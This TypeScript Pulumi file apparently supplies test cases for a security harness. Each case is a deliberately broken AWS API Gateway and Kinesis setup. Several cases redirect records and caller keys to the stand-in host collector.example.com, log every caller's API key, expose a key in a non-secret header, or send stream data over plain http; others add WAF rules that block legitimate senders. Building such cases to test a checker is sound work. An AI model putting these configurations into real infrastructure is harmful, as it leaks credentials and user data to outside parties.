import * as apigatewayv2 from "@pulumi/aws/apigatewayv2";
import * as cloudfront from "@pulumi/aws/cloudfront";
import * as cloudwatch from "@pulumi/aws/cloudwatch";
import * as kinesis from "@pulumi/aws/kinesis";
import * as pulumi from "@pulumi/pulumi";

import type { Attack } from "../harness/attack";
import { mapping } from "../harness/changes";
import { props, set } from "../second-round/support";
import { ACCOUNT, distribution, streamArn } from "../shared";
import { customDomain, rateLimited, webAcl } from "./fronts";
import { attackOf } from "./support";

const door = attackOf("door", "every record that a connector sends reaches this API, and nobody else sees it");
export const doors: readonly Attack[] = [
  door("routing-rule", "a rule of the domain sends records of one stream to another API", {
    own: true,
    add: (b) => {
      const domain = customDomain(b, { routingMode: "ROUTING_RULE_THEN_BASE_PATH_MAPPING" });
      return new apigatewayv2.RoutingRule(`${b.name}-rule`, {
        region: b.region,
        domainName: domain.domainName,
        priority: 1,
        conditions: [{ matchHeaders: { anyOf: { header: "streamname", valueGlob: "*" } } }],
        actions: [{ invokeApi: { apiId: "abcdefghij", stage: "live" } }],
      });
    },
  }),
  door("routing-rules-alone", "the domain goes by rules, of which it has none, and knows no API", {
    own: true,
    add: (b) => customDomain(b, { routingMode: "ROUTING_RULE_ONLY" }),
  }),
  door("gateway-redirects", "who has a wrong key is sent, with key and record, to another server", {
    changes: {
      "api-default-4xx": set({
        statusCode: "307",
        responseParameters: { "gatewayresponse.header.Location": "'https://collector.example.com/kinesis'" },
      }),
    },
  }),
  door("failure-redirects", "a record that Kinesis could not store is sent to another server", {
    changes: {
      "api-post-503": set({ responseParameters: { "method.response.header.Location": false } }),
      [mapping(503)]: props((given) => ({
        ...given,
        responseTemplates: {
          "application/json": `#set($context.responseOverride.status = 307)\n{"error": "Unavailable"}`,
        },
        responseParameters: { "method.response.header.Location": "'https://collector.example.com/kinesis'" },
      })),
    },
  }),
  door("acl-few", "a web ACL stops whoever sends more than ten records in five minutes", {
    own: true,
    add: (b) => webAcl(b, rateLimited(10)),
  }),
  door("acl-bots", "rules of AWS stop whoever is no browser, so each connector", {
    own: true,
    add: (b) =>
      webAcl(b, [
        {
          name: "bots",
          priority: 1,
          overrideAction: { none: {} },
          statement: { managedRuleGroupStatement: { vendorName: "AWS", name: "AWSManagedRulesBotControlRuleSet" } },
        },
      ]),
  }),
  door("acl-large", "a rule takes each record over 16 KB for an attack", {
    own: true,
    add: (b) =>
      webAcl(b, [
        {
          name: "sql",
          priority: 1,
          action: { block: {} },
          statement: {
            sqliMatchStatement: {
              fieldToMatch: { body: { oversizeHandling: "MATCH" } },
              textTransformations: [{ priority: 0, type: "NONE" }],
            },
          },
        },
      ]),
  }),
  door("acl-method", "a rule stops the method POST", {
    own: true,
    add: (b) =>
      webAcl(b, [
        {
          name: "reads-only",
          priority: 1,
          action: { block: {} },
          statement: {
            byteMatchStatement: {
              fieldToMatch: { method: {} },
              searchString: "POST",
              positionalConstraint: "EXACTLY",
              textTransformations: [{ priority: 0, type: "NONE" }],
            },
          },
        },
      ]),
  }),
  door("log-of-headers", "the log of a distribution before the API has each caller's key", {
    add: (b) => {
      const log = new cloudfront.RealtimeLogConfig(`${b.name}-log`, {
        name: "all",
        samplingRate: 100,
        fields: ["timestamp", "cs-headers"],
        endpoint: {
          streamType: "Kinesis",
          kinesisStreamConfig: {
            roleArn: `arn:aws:iam::${ACCOUNT}:role/logs`,
            streamArn: `arn:aws:kinesis:us-east-1:${ACCOUNT}:stream/logs`,
          },
        },
      });
      return distribution(b, { behavior: { realtimeLogConfigArn: log.arn } });
    },
  }),
  door("event-header", "a connection of EventBridge has the key in a header that is no secret", {
    add: (b) =>
      new cloudwatch.EventConnection(`${b.name}-connection`, {
        region: b.region,
        authorizationType: "API_KEY",
        authParameters: {
          apiKey: { key: "token", value: "${config.token}" },
          invocationHttpParameters: { headers: [{ key: "x-api-key", value: b.apiKey, isValueSecret: false }] },
        },
      }),
  }),
  door("firehose-splunk", "Firehose takes the stream's records on in plain http", {
    add: (b) =>
      new kinesis.FirehoseDeliveryStream(`${b.name}-firehose`, {
        region: b.region,
        destination: "splunk",
        kinesisSourceConfiguration: {
          kinesisStreamArn: streamArn(b),
          roleArn: `arn:aws:iam::${ACCOUNT}:role/firehose`,
        },
        splunkConfiguration: {
          hecEndpoint: "http://splunk.example.com:8088",
          hecToken: pulumi.secret("token"),
          s3Configuration: {
            bucketArn: "arn:aws:s3:::failed",
            roleArn: `arn:aws:iam::${ACCOUNT}:role/firehose`,
          },
        },
        tags: b.tags,
      }),
  }),
];
